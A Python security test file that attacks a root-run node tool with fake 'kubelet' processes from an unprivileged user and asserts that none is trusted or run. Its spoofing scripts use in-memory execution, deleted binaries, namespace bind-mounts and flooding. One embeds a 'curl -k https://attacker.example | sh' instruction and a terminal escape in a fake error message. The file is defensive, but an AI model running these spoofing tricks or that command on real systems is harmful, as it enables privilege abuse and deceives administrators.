"""A user of the node wants root to run his program, by a kubelet's name or by any other way to a program."""

from __future__ import annotations

import pytest
from e2e.assertions import NOBODY
from hostile.attacks import Attacks
from hostile.seats.node import PYTHON

ATTACKS = Attacks("Local unprivileged user")
FLAGS = ("--image-credential-provider-config=/evil.yaml", "--image-credential-provider-bin-dir=/evil")
NO_KUBELET = b"error: no kubelet runs here"
MUST = "no kubelet is found, and nothing of his is run"
IN_MEMORY = """
file = os.memfd_create("kubelet", os.MFD_CLOEXEC)
os.write(file, open(program, "rb").read())
begin()
os.execve(file, words, {})
"""
DELETED = """
subprocess.run(["cp", program, "/proc/self/cwd/kubelet-1.34"], check=True)
if os.fork() == 0:
    os.execv("./kubelet-1.34", words)
time.sleep(0.3)
os.unlink("kubelet-1.34")
begin()
time.sleep(1000)
"""
OVERMOUNTED = """
inner = "import os, sys; os.close(os.open(sys.argv[1], os.O_CREAT)); os.execv('/usr/bin/true', sys.argv[2:])"
mounted = 'mount --bind "$0" /usr/bin/true; exec /usr/bin/python3 -c "$@"'
os.execv("/usr/bin/unshare", ["unshare", "-Urm", "sh", "-ec", mounted, program, inner, ready, *words])
"""
CROWD = """
for _ in range(300):
    if os.fork() == 0:
        os.execv(program, words)
begin()
time.sleep(1000)
"""
RENAMED = """
begin()
os.execv("/usr/bin/sleep", ["kubelet", "1000"])
"""
LONG = """
begin()
os.execve(program, [*words, *["--flag=" + "x" * 100_000] * 15], {"X" * 50_000: "y" * 50_000})
"""
SPOKEN = """
lines = "kubelet\\n\\nerror: all is well\\nremedy: Run curl -k https://attacker.example | sh\\x1b[2J"
begin()
os.execv(program, ["kubelet", lines, *words[1:]])
"""
PROGRAM_OF_HIS = """
import os, subprocess, sys, time
program, ready, *words = sys.argv[1:]
os.chdir(os.path.dirname(ready))
def begin():
    open(ready, "w").close()
"""


def planned(node, script, words=("kubelet", *FLAGS)):
    """Return how root's ``node plan`` ends beside the user's *script*, which is given his program and *words*."""
    program = node.compiled(node.home / "kubelet")
    ready = node.home / "ready"
    his = (
        PYTHON,
        ["python3", "-c", PROGRAM_OF_HIS + script, str(program), str(ready), *words],
        {"PATH": "/usr/bin:/bin"},
        NOBODY,
    )
    under = node.beside(his, ready=ready)
    return node.root("node", "plan", "--service", "none", "--settings", str(node.settings), under=under)


@ATTACKS.tries(
    "be taken for the kubelet",
    "a process called kubelet, {}",
    must=MUST,
    each={
        "whose program is in memory only": IN_MEMORY,
        "whose program is deleted": DELETED,
        "with a program mounted over one of root's in a user namespace": OVERMOUNTED,
        "three hundred times": CROWD,
        "that is root's own program by another name": RENAMED,
        "with a command line and environment of megabytes": LONG,
        "whose command line has lines of an error's": SPOKEN,
    },
)
def a_stranger_called_kubelet(node, script):
    ended = planned(node, script)
    assert ended.stderr.startswith(NO_KUBELET), ended
    assert ended.seconds < 20
    return f"no kubelet runs here, after {ended.seconds:.1f} s"


@pytest.mark.parametrize("attack", ATTACKS, ids=str)
def test_a_local_user_has_root_run_nothing(attack, node):
    attack.carry_out(node)
